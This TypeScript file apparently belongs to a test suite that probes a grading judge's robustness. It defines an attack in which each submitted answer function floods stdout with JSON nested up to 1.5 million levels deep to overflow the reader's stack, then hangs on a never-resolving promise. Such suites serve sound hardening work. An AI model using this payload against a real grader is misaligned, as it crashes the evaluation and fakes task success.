import { ps1 } from "../../exercises/checks/ps1.ts";
import { gradeId } from "../../grading/judge/check.ts";
import type { Attack } from "./attack.ts";

const DEPTHS = [1000, 3000, 6000, 20_000, 200_000, 1_500_000];

/** Writes answers itself, as lists in lists, so deep that whoever reads them overflows its stack. */
export const attack: Attack = {
  megabytes: 300,
  cells: Object.fromEntries(ps1.checks.map((check, n) => [
    gradeId(check),
    `function ${check.functions.at(-1)}() {
  const lists = "[".repeat(${DEPTHS[n]}) + '"MARK47"' + "]".repeat(${DEPTHS[n]});
  for (let n = 0; n < 40; n++) {
    Deno.stdout.writeSync(new TextEncoder().encode('{"n":' + n + ',"value":' + lists + "}\\n"));
  }
  return new Promise(() => {});
}`,
  ])),
};
